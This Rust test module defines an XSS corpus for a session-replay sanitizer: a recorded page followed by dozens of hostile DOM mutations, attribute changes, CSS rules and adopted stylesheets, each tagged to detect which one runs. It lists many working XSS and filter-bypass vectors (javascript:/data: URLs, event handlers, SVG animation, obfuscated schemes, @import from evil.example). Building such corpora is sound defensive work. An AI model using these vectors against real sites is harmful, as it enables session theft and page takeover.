//! The replay XSS corpus: a recorded page followed by hostile changes that arrive the way a
//! hostile (or compromised) page would send them *after* the snapshot, as mutations (added
//! nodes, attribute changes, text changes), stylesheet rule insertions and adopted sheets.
//!
//! Every payload that could run tries to append its name to `top.__slXss`, so a test that
//! renders the corpus in a real browser can tell exactly which one ran. The same corpus is
//! checked natively against the sanitizer rules (`xss_tests.rs`) and in headless Chromium
//! (`xss_browser_tests.rs`). `docs/hostile-input.md` lists every payload with its outcome.

use sightline_protocol::DecodedSegment;
use sightline_protocol::v1::{
    AddedNode, AdoptedStyleSheets, AttributeChange, ConstructedSheet, Event, EventData, Mutation,
    Namespace, Node, NodeId, SegmentHeader, StyleOp, StyleOpKind, StyleSheetRule, TextChange,
};

use crate::timeline::Timeline;

/// The global the payloads write their names to.
pub(crate) const MARKER: &str = "__slXss";

/// Script that records that payload `name` ran.
pub(crate) fn mark(name: &str) -> String {
    format!("top.{MARKER}=(top.{MARKER}||'')+'{name};'")
}

/// Node ids of the snapshot that payloads change.
pub(crate) mod ids {
    use sightline_protocol::v1::NodeId;
    /// `<style>` in the head.
    pub const STYLE: NodeId = 4;
    /// Its text.
    pub const STYLE_TEXT: NodeId = 5;
    /// A recorded `<script>` with code.
    pub const SCRIPT: NodeId = 6;
    /// Its text.
    pub const SCRIPT_TEXT: NodeId = 7;
    /// `<meta charset>`.
    pub const META: NodeId = 8;
    /// `<body>`.
    pub const BODY: NodeId = 9;
    /// The `<div>` payload nodes are added to.
    pub const HOST: NodeId = 10;
    /// An `<a>` without `href`.
    pub const LINK: NodeId = 11;
    /// An `<img>`.
    pub const IMG: NodeId = 13;
    /// A `<form>`.
    pub const FORM: NodeId = 14;
    /// A submit button in it.
    pub const BUTTON: NodeId = 15;
    /// A same-origin `<iframe>` with a recorded document.
    pub const FRAME: NodeId = 16;
    /// The frame document's `<body>`.
    pub const FRAME_BODY: NodeId = 19;
    /// An inline `<svg>`.
    pub const SVG: NodeId = 20;
    /// An SVG `<a>` in it.
    pub const SVG_LINK: NodeId = 21;
    /// An empty `<script>` that later gets text.
    pub const EMPTY_SCRIPT: NodeId = 24;
    /// A `<math>` element.
    pub const MATH: NodeId = 25;
}

fn attrs(list: &[(&str, &str)]) -> Vec<(String, String)> {
    list.iter()
        .map(|(n, v)| ((*n).to_owned(), (*v).to_owned()))
        .collect()
}

fn html(id: NodeId, tag: &str, list: &[(&str, &str)], children: Vec<Node>) -> Node {
    Node::element(id, tag, attrs(list), children)
}

fn ns(
    namespace: Namespace,
    id: NodeId,
    tag: &str,
    list: &[(&str, &str)],
    children: Vec<Node>,
) -> Node {
    Node::Element {
        id,
        tag: tag.to_owned(),
        attributes: attrs(list),
        children,
        namespace,
    }
}

/// The recorded page before any payload.
pub(crate) fn page() -> Node {
    use ids::*;
    Node::Document {
        id: 1,
        children: vec![html(
            2,
            "html",
            &[],
            vec![
                html(
                    3,
                    "head",
                    &[],
                    vec![
                        html(
                            STYLE,
                            "style",
                            &[],
                            vec![Node::text(STYLE_TEXT, "p { margin: 1px }")],
                        ),
                        html(
                            SCRIPT,
                            "script",
                            &[],
                            vec![Node::text(SCRIPT_TEXT, mark("snapshot-script"))],
                        ),
                        html(META, "meta", &[("charset", "utf-8")], vec![]),
                    ],
                ),
                html(
                    BODY,
                    "body",
                    &[],
                    vec![
                        html(HOST, "div", &[("id", "host")], vec![]),
                        html(LINK, "a", &[("id", "link")], vec![Node::text(12, "link")]),
                        html(IMG, "img", &[("id", "img"), ("alt", "")], vec![]),
                        html(
                            FORM,
                            "form",
                            &[("id", "form")],
                            vec![html(BUTTON, "button", &[("type", "submit")], vec![])],
                        ),
                        html(
                            FRAME,
                            "iframe",
                            &[("id", "frame")],
                            vec![Node::Document {
                                id: 17,
                                children: vec![html(
                                    18,
                                    "html",
                                    &[],
                                    vec![html(FRAME_BODY, "body", &[], vec![])],
                                )],
                            }],
                        ),
                        ns(
                            Namespace::Svg,
                            SVG,
                            "svg",
                            &[("width", "10"), ("height", "10")],
                            vec![ns(
                                Namespace::Svg,
                                SVG_LINK,
                                "a",
                                &[],
                                vec![ns(
                                    Namespace::Svg,
                                    22,
                                    "text",
                                    &[],
                                    vec![Node::text(23, "svg")],
                                )],
                            )],
                        ),
                        html(EMPTY_SCRIPT, "script", &[], vec![]),
                        ns(Namespace::MathMl, MATH, "math", &[], vec![]),
                    ],
                ),
            ],
        )],
    }
}

/// One hostile change with the name its script would mark.
pub(crate) struct Payload {
    /// What it tries (also the marker it would set).
    pub name: &'static str,
    /// The change as recorded.
    pub event: EventData,
}

fn add(parent_id: NodeId, node: Node) -> EventData {
    EventData::Mutation(Mutation {
        adds: vec![AddedNode {
            parent_id,
            next_id: None,
            node,
        }],
        ..Mutation::default()
    })
}

fn set(changes: &[(NodeId, &str, Option<String>)]) -> EventData {
    EventData::Mutation(Mutation {
        attributes: changes
            .iter()
            .map(|(id, name, value)| AttributeChange {
                id: *id,
                name: (*name).to_owned(),
                value: value.clone(),
            })
            .collect(),
        ..Mutation::default()
    })
}

fn text(id: NodeId, value: String) -> EventData {
    EventData::Mutation(Mutation {
        texts: vec![TextChange { id, text: value }],
        ..Mutation::default()
    })
}

fn rule(text: &str) -> EventData {
    EventData::StyleSheetRule(StyleSheetRule {
        node_id: Some(ids::STYLE),
        style_id: None,
        ops: vec![StyleOp {
            kind: StyleOpKind::Insert,
            path: vec![0],
            text: text.to_owned(),
        }],
    })
}

/// An HTML document with a script that marks `name` (for `srcdoc` and `data:` URLs).
fn doc(name: &str) -> String {
    format!("<script>{}</script>", mark(name))
}

/// Every payload, in the order they are played. Node ids from 100 on are the payloads' own.
#[allow(clippy::too_many_lines)]
pub(crate) fn payloads() -> Vec<Payload> {
    use ids::*;
    let svg = |id, tag: &str, list: &[(&str, &str)], children| {
        ns(Namespace::Svg, id, tag, list, children)
    };
    let p = |name: &'static str, event: EventData| Payload { name, event };
    vec![
        // Added nodes.
        p(
            "add-script",
            add(
                HOST,
                html(
                    100,
                    "script",
                    &[],
                    vec![Node::text(101, mark("add-script"))],
                ),
            ),
        ),
        p(
            "add-script-src",
            add(
                HOST,
                html(
                    102,
                    "script",
                    &[(
                        "src",
                        &format!("data:text/javascript,{}", mark("add-script-src")),
                    )],
                    vec![],
                ),
            ),
        ),
        p(
            "add-script-module",
            add(
                HOST,
                html(
                    103,
                    "script",
                    &[("type", "module")],
                    vec![Node::text(104, mark("add-script-module"))],
                ),
            ),
        ),
        p(
            "add-svg-script",
            add(
                SVG,
                svg(
                    105,
                    "script",
                    &[],
                    vec![Node::text(106, mark("add-svg-script"))],
                ),
            ),
        ),
        p(
            "add-svg-prefixed-script",
            add(
                SVG,
                svg(
                    107,
                    "svg:script",
                    &[],
                    vec![Node::text(108, mark("add-svg-prefixed-script"))],
                ),
            ),
        ),
        p(
            "add-mathml-script",
            add(
                MATH,
                ns(
                    Namespace::MathMl,
                    109,
                    "script",
                    &[],
                    vec![Node::text(110, mark("add-mathml-script"))],
                ),
            ),
        ),
        p(
            "add-iframe-srcdoc",
            add(
                HOST,
                html(
                    111,
                    "iframe",
                    &[("srcdoc", &doc("add-iframe-srcdoc"))],
                    vec![],
                ),
            ),
        ),
        p(
            "add-iframe-src-javascript",
            add(
                HOST,
                html(
                    112,
                    "iframe",
                    &[(
                        "src",
                        &format!("javascript:{}", mark("add-iframe-src-javascript")),
                    )],
                    vec![],
                ),
            ),
        ),
        p(
            "add-iframe-src-data-html",
            add(
                HOST,
                html(
                    113,
                    "iframe",
                    &[(
                        "src",
                        &format!("data:text/html,{}", doc("add-iframe-src-data-html")),
                    )],
                    vec![],
                ),
            ),
        ),
        p(
            "add-iframe-sandbox-allow-scripts",
            add(
                HOST,
                html(
                    114,
                    "iframe",
                    &[
                        ("sandbox", "allow-scripts allow-same-origin"),
                        ("srcdoc", &doc("add-iframe-sandbox-allow-scripts")),
                    ],
                    vec![],
                ),
            ),
        ),
        p(
            "add-frame-src-javascript",
            add(
                HOST,
                html(
                    115,
                    "frame",
                    &[(
                        "src",
                        &format!("javascript:{}", mark("add-frame-src-javascript")),
                    )],
                    vec![],
                ),
            ),
        ),
        p(
            "add-img-onerror",
            add(
                HOST,
                html(
                    116,
                    "img",
                    &[("src", "data:,"), ("onerror", &mark("add-img-onerror"))],
                    vec![],
                ),
            ),
        ),
        p(
            "add-svg-onload",
            add(
                HOST,
                svg(117, "svg", &[("onload", &mark("add-svg-onload"))], vec![]),
            ),
        ),
        p(
            "add-svg-animate-href",
            add(
                SVG,
                svg(
                    118,
                    "a",
                    &[],
                    vec![
                        svg(
                            119,
                            "animate",
                            &[
                                ("attributeName", "href"),
                                (
                                    "values",
                                    &format!("javascript:{}", mark("add-svg-animate-href")),
                                ),
                                ("dur", "1s"),
                                ("fill", "freeze"),
                            ],
                            vec![],
                        ),
                        svg(
                            120,
                            "text",
                            &[("y", "9")],
                            vec![Node::text(121, "animated")],
                        ),
                    ],
                ),
            ),
        ),
        p(
            "add-svg-set-href",
            add(
                SVG,
                svg(
                    122,
                    "a",
                    &[],
                    vec![svg(
                        123,
                        "set",
                        &[
                            ("attributeName", "href"),
                            ("to", &format!(" JavaScript:{}", mark("add-svg-set-href"))),
                        ],
                        vec![],
                    )],
                ),
            ),
        ),
        p(
            "add-svg-set-xlink-href-data",
            add(
                SVG,
                svg(
                    124,
                    "a",
                    &[],
                    vec![svg(
                        125,
                        "set",
                        &[
                            ("attributeName", "xlink:href"),
                            (
                                "to",
                                &format!("data:text/html,{}", doc("add-svg-set-xlink-href-data")),
                            ),
                        ],
                        vec![],
                    )],
                ),
            ),
        ),
        p(
            "add-svg-use-data",
            add(
                SVG,
                svg(
                    126,
                    "use",
                    &[(
                        "href",
                        &format!(
                            "data:image/svg+xml,<svg id='x' xmlns='http://www.w3.org/2000/svg'><image href='x' onerror=\"{}\"/></svg>#x",
                            mark("add-svg-use-data")
                        ),
                    )],
                    vec![],
                ),
            ),
        ),
        p(
            "add-svg-foreignobject-iframe",
            add(
                SVG,
                svg(
                    127,
                    "foreignObject",
                    &[],
                    vec![html(
                        128,
                        "iframe",
                        &[("srcdoc", &doc("add-svg-foreignobject-iframe"))],
                        vec![],
                    )],
                ),
            ),
        ),
        p(
            "add-math-href",
            add(
                MATH,
                ns(
                    Namespace::MathMl,
                    129,
                    "mtext",
                    &[("href", &format!("javascript:{}", mark("add-math-href")))],
                    vec![Node::text(130, "math")],
                ),
            ),
        ),
        p(
            "add-math-maction-xlink",
            add(
                MATH,
                ns(
                    Namespace::MathMl,
                    131,
                    "maction",
                    &[
                        ("actiontype", "statusline"),
                        (
                            "xlink:href",
                            &format!("javascript:{}", mark("add-math-maction-xlink")),
                        ),
                    ],
                    vec![],
                ),
            ),
        ),
        p(
            "add-object-javascript",
            add(
                HOST,
                html(
                    132,
                    "object",
                    &[(
                        "data",
                        &format!("javascript:{}", mark("add-object-javascript")),
                    )],
                    vec![],
                ),
            ),
        ),
        p(
            "add-object-data-html",
            add(
                HOST,
                html(
                    133,
                    "object",
                    &[
                        ("type", "text/html"),
                        (
                            "data",
                            &format!(
                                "data:text/html;base64,{}",
                                "PHNjcmlwdD50b3AuX19zbFhzcz0odG9wLl9fc2xYc3N8fCcnKSsnYWRkLW9iamVjdC1kYXRhLWh0bWw7Jzwvc2NyaXB0Pg=="
                            ),
                        ),
                    ],
                    vec![],
                ),
            ),
        ),
        p(
            "add-object-svg-document",
            add(
                HOST,
                html(
                    134,
                    "object",
                    &[
                        ("type", "image/svg+xml"),
                        (
                            "data",
                            &format!(
                                "data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload=\"{}\"/>",
                                mark("add-object-svg-document")
                            ),
                        ),
                    ],
                    vec![],
                ),
            ),
        ),
        p(
            "add-embed-javascript",
            add(
                HOST,
                html(
                    135,
                    "embed",
                    &[(
                        "src",
                        &format!("javascript:{}", mark("add-embed-javascript")),
                    )],
                    vec![],
                ),
            ),
        ),
        p(
            "add-embed-spaced-data-html",
            add(
                HOST,
                html(
                    136,
                    "embed",
                    &[
                        ("type", "text/html"),
                        (
                            "src",
                            &format!("data: text/html ,{}", doc("add-embed-spaced-data-html")),
                        ),
                    ],
                    vec![],
                ),
            ),
        ),
        p(
            "add-base-href",
            add(
                3,
                html(
                    137,
                    "base",
                    &[("href", &format!("javascript:{}//", mark("add-base-href")))],
                    vec![],
                ),
            ),
        ),
        p(
            "add-meta-refresh",
            add(
                3,
                html(
                    138,
                    "meta",
                    &[
                        ("http-equiv", "refresh"),
                        (
                            "content",
                            &format!("0;url=javascript:{}", mark("add-meta-refresh")),
                        ),
                    ],
                    vec![],
                ),
            ),
        ),
        p(
            "add-meta-refresh-data",
            add(
                3,
                html(
                    139,
                    "meta",
                    &[
                        ("http-equiv", " REFRESH "),
                        (
                            "content",
                            &format!("0;url=data:text/html,{}", doc("add-meta-refresh-data")),
                        ),
                    ],
                    vec![],
                ),
            ),
        ),
        p(
            "add-form-action-javascript",
            add(
                HOST,
                html(
                    140,
                    "form",
                    &[(
                        "action",
                        &format!("javascript:{}", mark("add-form-action-javascript")),
                    )],
                    vec![html(141, "input", &[("type", "submit")], vec![])],
                ),
            ),
        ),
        p(
            "add-button-formaction",
            add(
                HOST,
                html(
                    142,
                    "button",
                    &[(
                        "formaction",
                        &format!("JaVaScRiPt:{}", mark("add-button-formaction")),
                    )],
                    vec![],
                ),
            ),
        ),
        p(
            "add-link-import",
            add(
                3,
                html(
                    143,
                    "link",
                    &[
                        ("rel", "import"),
                        ("href", &format!("javascript:{}", mark("add-link-import"))),
                    ],
                    vec![],
                ),
            ),
        ),
        p(
            "add-link-stylesheet-javascript",
            add(
                3,
                html(
                    144,
                    "link",
                    &[
                        ("rel", "stylesheet"),
                        (
                            "href",
                            &format!("javascript:{}", mark("add-link-stylesheet-javascript")),
                        ),
                    ],
                    vec![],
                ),
            ),
        ),
        p(
            "add-a-obfuscated-javascript",
            add(
                HOST,
                html(
                    145,
                    "a",
                    &[(
                        "href",
                        &format!(
                            "\u{1} java\tscr\nipt:{}",
                            mark("add-a-obfuscated-javascript")
                        ),
                    )],
                    vec![],
                ),
            ),
        ),
        p(
            "add-a-vbscript",
            add(
                HOST,
                html(146, "a", &[("href", "VBScript:MsgBox(1)")], vec![]),
            ),
        ),
        p(
            "add-area-javascript",
            add(
                HOST,
                html(
                    147,
                    "map",
                    &[("name", "m")],
                    vec![html(
                        148,
                        "area",
                        &[(
                            "href",
                            &format!("javascript:{}", mark("add-area-javascript")),
                        )],
                        vec![],
                    )],
                ),
            ),
        ),
        p(
            "add-details-ontoggle",
            add(
                HOST,
                html(
                    149,
                    "details",
                    &[("open", ""), ("ontoggle", &mark("add-details-ontoggle"))],
                    vec![],
                ),
            ),
        ),
        p(
            "add-input-autofocus-onfocus",
            add(
                HOST,
                html(
                    150,
                    "input",
                    &[
                        ("autofocus", ""),
                        ("onfocus", &mark("add-input-autofocus-onfocus")),
                    ],
                    vec![],
                ),
            ),
        ),
        p(
            "add-video-source-onerror",
            add(
                HOST,
                html(
                    151,
                    "video",
                    &[],
                    vec![html(
                        152,
                        "source",
                        &[
                            ("src", "data:,"),
                            ("onerror", &mark("add-video-source-onerror")),
                        ],
                        vec![],
                    )],
                ),
            ),
        ),
        p(
            "add-style-element",
            add(
                3,
                html(
                    153,
                    "style",
                    &[],
                    vec![Node::text(
                        154,
                        format!(
                            "@import url(javascript:{0}); body {{ background: url(\"javascript:{0}\") }}",
                            mark("add-style-element")
                        ),
                    )],
                ),
            ),
        ),
        p(
            "add-noscript-markup",
            add(
                HOST,
                html(
                    155,
                    "noscript",
                    &[],
                    vec![Node::text(
                        156,
                        format!("<img src=x onerror=\"{}\">", mark("add-noscript-markup")),
                    )],
                ),
            ),
        ),
        p(
            "add-entity-encoded-javascript",
            add(
                HOST,
                html(
                    157,
                    "a",
                    &[("href", "&#106;avascript:top.__slXss+='entity;'")],
                    vec![],
                ),
            ),
        ),
        p(
            "add-shadow-root-payloads",
            add(
                HOST,
                html(
                    158,
                    "div",
                    &[],
                    vec![Node::ShadowRoot {
                        id: 159,
                        children: vec![
                            html(
                                160,
                                "script",
                                &[],
                                vec![Node::text(161, mark("add-shadow-root-payloads"))],
                            ),
                            html(
                                162,
                                "img",
                                &[
                                    ("src", "data:,"),
                                    ("onerror", &mark("add-shadow-root-payloads")),
                                ],
                                vec![],
                            ),
                        ],
                    }],
                ),
            ),
        ),
        p(
            "add-frame-document-payloads",
            add(
                FRAME_BODY,
                html(
                    163,
                    "div",
                    &[],
                    vec![
                        html(
                            164,
                            "script",
                            &[],
                            vec![Node::text(165, mark("add-frame-document-payloads"))],
                        ),
                        html(
                            166,
                            "img",
                            &[
                                ("src", "data:,"),
                                ("onerror", &mark("add-frame-document-payloads")),
                            ],
                            vec![],
                        ),
                    ],
                ),
            ),
        ),
        p(
            "add-svg-namespaced-iframe-with-document",
            add(
                SVG,
                svg(
                    167,
                    "iframe",
                    &[],
                    vec![Node::Document {
                        id: 168,
                        children: vec![html(
                            169,
                            "script",
                            &[],
                            vec![Node::text(
                                170,
                                mark("add-svg-namespaced-iframe-with-document"),
                            )],
                        )],
                    }],
                ),
            ),
        ),
        p(
            "add-html-prefixed-iframe",
            add(
                HOST,
                html(
                    171,
                    "x:iframe",
                    &[
                        ("srcdoc", &doc("add-html-prefixed-iframe")),
                        (
                            "src",
                            &format!("javascript:{}", mark("add-html-prefixed-iframe")),
                        ),
                    ],
                    vec![],
                ),
            ),
        ),
        // Attribute changes on nodes of the snapshot.
        p(
            "attr-onclick-added",
            set(&[(LINK, "onclick", Some(mark("attr-onclick-added")))]),
        ),
        p(
            "attr-onerror-added",
            set(&[
                (IMG, "onerror", Some(mark("attr-onerror-added"))),
                (IMG, "src", Some("data:,".into())),
            ]),
        ),
        p(
            "attr-uppercase-onload",
            set(&[
                (BODY, "ONLOAD", Some(mark("attr-uppercase-onload"))),
                (BODY, "onpageshow", Some(mark("attr-uppercase-onload"))),
            ]),
        ),
        p(
            "attr-href-javascript",
            set(&[(
                LINK,
                "href",
                Some(format!(" JAVASCRIPT:{}", mark("attr-href-javascript"))),
            )]),
        ),
        p(
            "attr-href-newline-javascript",
            set(&[(
                LINK,
                "href",
                Some(format!(
                    "java\nscript:{}",
                    mark("attr-href-newline-javascript")
                )),
            )]),
        ),
        p(
            "attr-href-data-html",
            set(&[(
                LINK,
                "href",
                Some(format!("data:text/html,{}", doc("attr-href-data-html"))),
            )]),
        ),
        p(
            "attr-src-data-html",
            set(&[(
                IMG,
                "src",
                Some(format!("data:text/html,{}", doc("attr-src-data-html"))),
            )]),
        ),
        p(
            "attr-form-action",
            set(&[(
                FORM,
                "action",
                Some(format!("javascript:{}", mark("attr-form-action"))),
            )]),
        ),
        p(
            "attr-button-formaction-vbscript",
            set(&[(BUTTON, "formaction", Some("vbscript:msgbox(1)".into()))]),
        ),
        p(
            "attr-svg-xlink-href",
            set(&[
                (
                    SVG_LINK,
                    "xlink:href",
                    Some(format!("javascript:{}", mark("attr-svg-xlink-href"))),
                ),
                (
                    SVG_LINK,
                    "href",
                    Some(format!("\tjavascript:{}", mark("attr-svg-xlink-href"))),
                ),
            ]),
        ),
        p(
            "attr-svg-xlink-href-data",
            set(&[(
                SVG_LINK,
                "XLINK:HREF",
                Some(format!(
                    "data:application/xhtml+xml,{}",
                    doc("attr-svg-xlink-href-data")
                )),
            )]),
        ),
        p(
            "attr-iframe-srcdoc",
            set(&[(FRAME, "srcdoc", Some(doc("attr-iframe-srcdoc")))]),
        ),
        p(
            "attr-iframe-src",
            set(&[(
                FRAME,
                "src",
                Some(format!("javascript:{}", mark("attr-iframe-src"))),
            )]),
        ),
        p(
            "attr-iframe-sandbox",
            set(&[(
                FRAME,
                "sandbox",
                Some("allow-scripts allow-same-origin".into()),
            )]),
        ),
        p(
            "attr-iframe-sandbox-removed",
            set(&[(FRAME, "sandbox", None)]),
        ),
        p(
            "attr-script-type",
            set(&[
                (SCRIPT, "type", Some("text/javascript".into())),
                (EMPTY_SCRIPT, "type", None),
            ]),
        ),
        p(
            "attr-script-src",
            set(&[(
                EMPTY_SCRIPT,
                "src",
                Some(format!("data:text/javascript,{}", mark("attr-script-src"))),
            )]),
        ),
        p(
            "attr-meta-refresh",
            set(&[
                (META, "http-equiv", Some("Refresh".into())),
                (
                    META,
                    "content",
                    Some(format!("0;url=javascript:{}", mark("attr-meta-refresh"))),
                ),
            ]),
        ),
        p(
            "attr-style-url-javascript",
            set(&[(
                LINK,
                "style",
                Some(format!(
                    "background:url(javascript:{})",
                    mark("attr-style-url-javascript")
                )),
            )]),
        ),
        p(
            "attr-srcdoc-on-any-element",
            set(&[(HOST, "srcdoc", Some(doc("attr-srcdoc-on-any-element")))]),
        ),
        p(
            "attr-math-href",
            set(&[(
                MATH,
                "href",
                Some(format!("javascript:{}", mark("attr-math-href"))),
            )]),
        ),
        // Text changes.
        p(
            "text-snapshot-script",
            text(SCRIPT_TEXT, mark("text-snapshot-script")),
        ),
        p(
            "text-empty-script-gets-code",
            add(
                EMPTY_SCRIPT,
                Node::text(172, mark("text-empty-script-gets-code")),
            ),
        ),
        p(
            "text-style",
            text(
                STYLE_TEXT,
                format!(
                    "@import url(javascript:{0}); p {{ background: url('javascript:{0}') }}",
                    mark("text-style")
                ),
            ),
        ),
        // Stylesheet rules.
        p(
            "rule-expression",
            rule(&format!(
                "p {{ width: expression({}) }}",
                mark("rule-expression")
            )),
        ),
        p(
            "rule-url-javascript",
            rule(&format!(
                "p {{ background-image: url(\"javascript:{}\") }}",
                mark("rule-url-javascript")
            )),
        ),
        p(
            "rule-import",
            rule("@import url(https://evil.example/a.css);"),
        ),
        p(
            "rule-import-after-comment",
            rule("/* hi */ @import url(https://evil.example/b.css);"),
        ),
        p(
            "rule-import-escaped",
            rule("@\\69mport url(https://evil.example/c.css);"),
        ),
        p(
            "rule-import-javascript",
            rule(&format!(
                "@IMPORT 'javascript:{}';",
                mark("rule-import-javascript")
            )),
        ),
        // Adopted stylesheets.
        p(
            "adopted-sheet",
            EventData::AdoptedStyleSheets(AdoptedStyleSheets {
                owner_id: 1,
                style_ids: vec![7],
                new_sheets: vec![ConstructedSheet {
                    style_id: 7,
                    text: format!(
                        "@import url(https://evil.example/d.css); body {{ background: url(javascript:{}) }}",
                        mark("adopted-sheet")
                    ),
                }],
            }),
        ),
    ]
}

/// The corpus as a timeline: the snapshot, then one payload every 100 ms.
pub(crate) fn timeline() -> Timeline {
    let mut events = vec![
        Event::new(
            0,
            EventData::Meta {
                href: "https://shop.example/".into(),
                width: 400,
                height: 300,
                user_agent: "test".into(),
            },
        ),
        Event::new(0, EventData::FullSnapshot { root: page() }),
    ];
    events.extend(payloads().into_iter().map(|p| Event::new(100, p.event)));
    Timeline::from_segments(&[DecodedSegment {
        header: SegmentHeader::new("0123456789abcdef0123456789abcdef", 0, 1, 0),
        events,
    }])
}
